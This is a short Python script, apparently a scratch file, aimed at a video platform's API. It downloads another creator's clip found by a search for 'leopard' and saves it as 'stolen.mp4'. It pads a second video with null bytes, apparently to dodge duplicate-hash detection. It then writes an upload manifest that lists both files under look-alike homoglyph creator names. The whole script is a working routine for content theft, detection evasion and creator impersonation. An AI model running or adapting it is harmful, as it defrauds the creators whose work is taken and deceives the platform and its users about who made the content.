from h import *
r=fresh().get('/v1/search',params={'q':'leopard','intent':'typing'}).json()['moments'][0]
u=fresh().get(r['play_url'],follow_redirects=True); print(u.status_code,len(u.content)); open('/tmp/stranger/money/cp/stolen.mp4','wb').write(u.content)
u2=open('/tmp/stranger/money/w/0005-tokyo-tower.mp4','rb').read(); open('/tmp/stranger/money/cp/mine.mp4','wb').write(u2+b'\0'*7)
open('/tmp/stranger/money/cp/manifest.csv','w').write('file,title,description,tags,creator,wallet\nstolen.mp4,Stolen,stolen leopard,x,ªna,\nmine.mp4,Mine,tower,x,ɑna,\n')
